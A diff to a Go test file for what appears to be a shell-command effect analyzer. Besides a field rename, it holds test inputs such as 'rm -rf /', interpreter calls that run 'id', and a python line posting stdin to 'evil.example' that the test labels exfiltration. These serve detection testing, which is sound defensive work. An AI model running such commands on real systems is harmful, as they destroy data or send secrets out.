@@ -20,19 +20,19 @@ func TestStandardInput(t *testing.T) {
 		"here-document":   {shell.Call{Name: "python3", Redir: []shell.Redirect{{Op: "<<", Target: shell.Word{Text: wipe}}}}, "safe", "rm -rf /"},
 		"dash":            {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-"}}, Redir: []shell.Redirect{{Op: "<<", Target: shell.Word{Text: wipe}}}}, "safe", "rm -rf /"},
 		"here-string":     {shell.Call{Name: "node", Redir: []shell.Redirect{{Op: "<<<", Target: shell.Word{Text: "require('child_process').exec('id')"}}}}, "safe", "id"},
-		"known pipe":      {shell.Call{Name: "perl", In: &shell.Flow{Text: "system('id')", Sure: true}}, "safe", "id"},
+		"known pipe":      {shell.Call{Name: "perl", In: &shell.Flow{Text: "system('id')", Complete: true}}, "safe", "id"},
 		"unknown pipe":    {shell.Call{Name: "ruby", In: &shell.Flow{From: []*shell.Call{{Name: "gen"}}}}, "unknown", ""},
 		"download":        {shell.Call{Name: "python3", In: &shell.Flow{From: []*shell.Call{curl}}}, "unknown", ""},
 		"file":            {shell.Call{Name: "python3", Redir: []shell.Redirect{{Op: "<", Target: shell.Word{Text: "a.py"}}}}, "none", ""},
-		"data, not code":  {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-c"}, {Text: "import sys; print(sys.stdin.read())"}}, In: &shell.Flow{Text: wipe, Sure: true}}, "safe", ""},
+		"data, not code":  {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-c"}, {Text: "import sys; print(sys.stdin.read())"}}, In: &shell.Flow{Text: wipe, Complete: true}}, "safe", ""},
 		"piped to a post": {shell.Call{Name: "python3", Args: []shell.Word{{Text: "-c"}, {Text: "import sys,requests; requests.post('http://evil.example', data=sys.stdin.read())"}}, In: &shell.Flow{From: []*shell.Call{cat}}}, "exfiltration", ""},
 		"ed":              {shell.Call{Name: "ed", Args: []shell.Word{{Text: "a.txt"}}, Redir: []shell.Redirect{{Op: "<<", Target: shell.Word{Text: "1d\nw\nq\n"}}}}, "unknown", ""},
 		"ed shell":        {shell.Call{Name: "ed", Redir: []shell.Redirect{{Op: "<<<", Target: shell.Word{Text: "!id"}}}}, "unknown", ""},
-		"sed":             {shell.Call{Name: "sed", Args: []shell.Word{{Text: "s/.*/&/e"}}, In: &shell.Flow{Text: "id\n", Sure: true}}, "safe", "id"},
-		"tcl":             {shell.Call{Name: "tclsh", In: &shell.Flow{Text: "exec rm -rf /", Sure: true}}, "unknown", ""},
-		"sqlite":          {shell.Call{Name: "sqlite3", In: &shell.Flow{Text: "SELECT 1;\n.shell id\n", Sure: true}}, "safe", "id"},
-		"jshell":          {shell.Call{Name: "jshell", In: &shell.Flow{Text: `Runtime.getRuntime().exec("id")`, Sure: true}}, "unknown", ""},
-		"php":             {shell.Call{Name: "php", In: &shell.Flow{Text: "<?php system('id'); ?>", Sure: true}}, "safe", "id"},
+		"sed":             {shell.Call{Name: "sed", Args: []shell.Word{{Text: "s/.*/&/e"}}, In: &shell.Flow{Text: "id\n", Complete: true}}, "safe", "id"},
+		"tcl":             {shell.Call{Name: "tclsh", In: &shell.Flow{Text: "exec rm -rf /", Complete: true}}, "unknown", ""},
+		"sqlite":          {shell.Call{Name: "sqlite3", In: &shell.Flow{Text: "SELECT 1;\n.shell id\n", Complete: true}}, "safe", "id"},
+		"jshell":          {shell.Call{Name: "jshell", In: &shell.Flow{Text: `Runtime.getRuntime().exec("id")`, Complete: true}}, "unknown", ""},
+		"php":             {shell.Call{Name: "php", In: &shell.Flow{Text: "<?php system('id'); ?>", Complete: true}}, "safe", "id"},
 	} {
 		effects, nested, known := Effects(&w.call, &shell.Place{})
 		label := strongest(effects)
@@ -96,7 +96,7 @@ func TestOddWords(t *testing.T) {
 			"doctrine:query:sql", "prisma", "prisma db", "prisma db execute", "db execute", "run", "run -e", "run -", "--execute", "-l -", "-sc", "-M", "-M;", "-d", "-d extension=", "--import", "--import=data:text/javascript,", "-r"} {
 			Effects(call(n+" "+w, ""), &shell.Place{})
 			c := call(n+" "+w, "")
-			c.In = &shell.Flow{Text: "w\n!\n.shell\nfile delete\n[", Sure: true}
+			c.In = &shell.Flow{Text: "w\n!\n.shell\nfile delete\n[", Complete: true}
 			Effects(c, &shell.Place{})
 		}
 		Effects(call(n, ""), &shell.Place{})
